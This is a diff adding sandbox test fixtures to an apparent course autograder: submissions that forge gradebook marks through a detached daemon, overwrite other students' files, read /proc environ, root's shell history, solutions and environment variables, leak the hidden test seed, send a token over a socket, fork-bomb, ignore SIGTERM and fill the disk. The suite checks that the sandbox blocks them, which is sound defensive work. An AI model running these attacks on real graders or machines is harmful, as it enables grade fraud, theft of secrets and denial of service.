@@ -352,3 +352,165 @@ def write_nbgrader_layout(root: Path, students: dict[str, tuple[object, Expect]]
         else:
             nbformat.write(copy.deepcopy(what), folder / f"{CHAPTER}.ipynb")
     return root / "submitted"
+
+
+# --- attacks on the grader from outside the kernel: the sandbox (docs/sandbox.md) -----------------------
+
+MARKER = "aiecourse-hostile"  # in the command line of every process an attack starts
+
+
+def _attack(source: str):
+    """The untouched release with one attack cell after the setup cell: it must earn what the stub earns."""
+    return insert_after(release(), "setup", source)
+
+
+def sandbox_class(root: Path, port: int, token: str) -> dict[str, tuple[object, Expect]]:
+    """Submissions that attack the grader, its files and the machine, beside two honest ones.
+
+    ``root`` is the course root the round grades into, ``port`` a TCP server the test listens on
+    (127.0.0.1), ``token`` a string that must never show up where it should not (files the attacks
+    try to write are named after it). Every attack prints what it reached; the test checks that
+    nothing was.
+    """
+    gradebook, csv_path = root / "gradebook.db", root / "grades" / f"{CHAPTER}.csv"
+    victim = root / "submitted" / "honest" / CHAPTER / f"{CHAPTER}.ipynb"
+    c: dict[str, tuple[object, Expect]] = {}
+    c["honest"] = (solution(), Expect("graded", TESTS))
+    c["honest_blank"] = (release(), Expect("graded", []))
+    c["daemon"] = (
+        _attack(
+            f"""
+import os, subprocess, sys
+code = '''
+import os, sqlite3, time  # {MARKER}-{token}
+for _ in range(240):  # waits for the round to end, then gives itself full marks
+    time.sleep(0.5)
+    try:
+        con = sqlite3.connect({str(gradebook)!r}, timeout=1)
+        con.execute("update grade set manual_score = 12, auto_score = 12")
+        con.commit()
+        with open({str(csv_path)!r}, "a") as f:
+            f.write("daemon,3,2,2,3,2,12,12,graded,,,bubblewrap\\\\n")
+    except Exception:
+        pass
+'''
+if os.fork() == 0:  # detached: its own session, double fork
+    os.setsid()
+    if os.fork() == 0:
+        subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
+    os._exit(0)
+print("daemon started")"""
+        ),
+        Expect("graded", []),
+    )
+    c["vandal"] = (
+        _attack(
+            f"""
+import os, pathlib
+for target in [{str(victim)!r}, {str(root / f"{token}.txt")!r}, {f"/tmp/{token}.txt"!r},
+               {str(root / "autograded" / "honest" / f"{token}.txt")!r}, "../../honest/{token}.txt"]:
+    try:
+        pathlib.Path(target).parent.mkdir(parents=True, exist_ok=True)
+        pathlib.Path(target).write_text("{token}")
+        print("WROTE", target)
+    except OSError as e:
+        print("could not write", target, type(e).__name__)"""
+        ),
+        Expect("graded", []),
+    )
+    c["snoop"] = (
+        _attack(
+            f"""
+import os
+for path in [{str(SOLUTIONS / CHAPTER / f"{CHAPTER}.ipynb")!r}, {str(gradebook)!r}, {str(root / "instructor.txt")!r},
+             "/proc/1/environ", "/proc/self/environ", os.path.expanduser("~root/.bash_history")]:
+    try:
+        print("GOT-FILE", path, open(path, errors="replace").read()[:20000])
+    except OSError as e:
+        print("could not read", path, type(e).__name__)
+print("home:", os.listdir(os.path.expanduser("~")))
+for folder in [{str(Path.home())!r}, {str(root)!r}, {str(SOLUTIONS)!r}]:
+    try:
+        print("GOT-DIR", folder, os.listdir(folder))
+    except OSError as e:
+        print("could not list", folder, type(e).__name__)
+print("ENV", dict(os.environ))
+print("SEED", hidden_seed())"""
+        ),
+        Expect("graded", []),
+    )
+    nb = solution()
+    append_to(
+        nb,
+        "causal_mask",
+        """
+_seen = []
+_causal_mask = causal_mask
+
+def causal_mask(q_len, k_len=None, device=None):  # remembers the seed while the hidden tests run
+    from aiecourse.checks import hidden_seed
+    _seen.append(hidden_seed())
+    print("SEED DURING THE TEST", hidden_seed())
+    if isinstance(device, str):  # only the hidden test of causal_mask passes device="cpu"
+        raise ValueError(f"the seed is {hidden_seed()}")
+    return _causal_mask(q_len, k_len, device)""",
+    )
+    insert_after(nb, "test_mha_in_gpt", 'print("SEEN", sorted(set(_seen)))')
+    c["seedleak"] = (nb, Expect("graded", [t for t in TESTS if t != "test_causal_mask"]))
+    c["network"] = (
+        _attack(
+            f"""
+import socket
+try:
+    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
+    s.sendall(b"{token}")
+    print("CONNECTED")
+except OSError as e:
+    print("no network:", type(e).__name__)"""
+        ),
+        Expect("graded", []),
+    )
+    c["forkbomb"] = (
+        _attack(
+            """
+import os, time
+n = 0
+try:
+    while n < 100_000:
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+        n += 1
+    print("NO PROCESS LIMIT")
+except OSError as e:
+    print("fork bomb stopped after", n, "processes:", type(e).__name__)"""
+        ),
+        Expect("graded", []),
+    )
+    c["immortal"] = (
+        _attack(
+            f"""
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import signal, time  # {MARKER}-{token}\\n"
+                  "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
+                  "signal.signal(signal.SIGHUP, signal.SIG_IGN)\\ntime.sleep(600)"], start_new_session=True)
+print("started a process that ignores SIGTERM")"""
+        ),
+        Expect("graded", []),
+    )
+    c["diskfill"] = (
+        _attack(
+            """
+written = 0
+for path in ["filler.bin", "/tmp/filler.bin"]:
+    try:
+        with open(path, "wb") as f:
+            while written < 64 * 2**30:
+                f.write(b"0" * 2**20)
+                written += 2**20
+    except OSError as e:
+        print("disk full after", written // 2**20, "MiB:", type(e).__name__)"""
+        ),
+        Expect("graded", []),
+    )
+    return c
